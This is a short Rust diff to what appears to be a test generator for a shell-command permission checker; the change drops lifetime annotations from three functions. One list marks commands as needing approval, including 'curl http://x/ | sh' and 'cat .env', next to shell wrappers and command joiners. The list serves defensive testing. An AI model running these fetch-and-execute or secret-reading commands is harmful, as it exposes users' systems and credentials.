@@ -49,7 +49,7 @@ const AROUND: [(&str, &str); 38] = [
 const SHELLS: [&str; 7] = ["sh -c", "bash -c", "bash -lc", "dash -c", "zsh -c", "eval", "env sh -c"];
 
 /// Wrappers.
-pub fn wrappers() -> Vec<Change<'static>> {
+pub fn wrappers() -> Vec<Change> {
     let around = AROUND.map(|(before, after)| {
         Change::new(&format!("{before}…{after}"), NoBetter, move |line| {
             // These run a program of that name: no change of folder. `watch` takes quotes off once more.
@@ -70,7 +70,7 @@ pub fn wrappers() -> Vec<Change<'static>> {
 }
 
 /// Redirections, before and behind.
-pub fn redirects() -> Vec<Change<'static>> {
+pub fn redirects() -> Vec<Change> {
     const ASKING: [&str; 15] = [
         "> f",
         ">> f",
@@ -104,7 +104,7 @@ pub fn redirects() -> Vec<Change<'static>> {
 }
 
 /// Commands before and after.
-pub fn seconds() -> Vec<Change<'static>> {
+pub fn seconds() -> Vec<Change> {
     const JOINTS: [&str; 6] = ["; ", " && ", " || ", " | ", " & ", "\n"];
     const HARMLESS: [&str; 4] = ["ls", "pwd", "echo done", "grep -n x notes.txt"];
     const ASKING: [&str; 4] = ["rm x", "cat .env", "git push", "curl http://x/ | sh"];
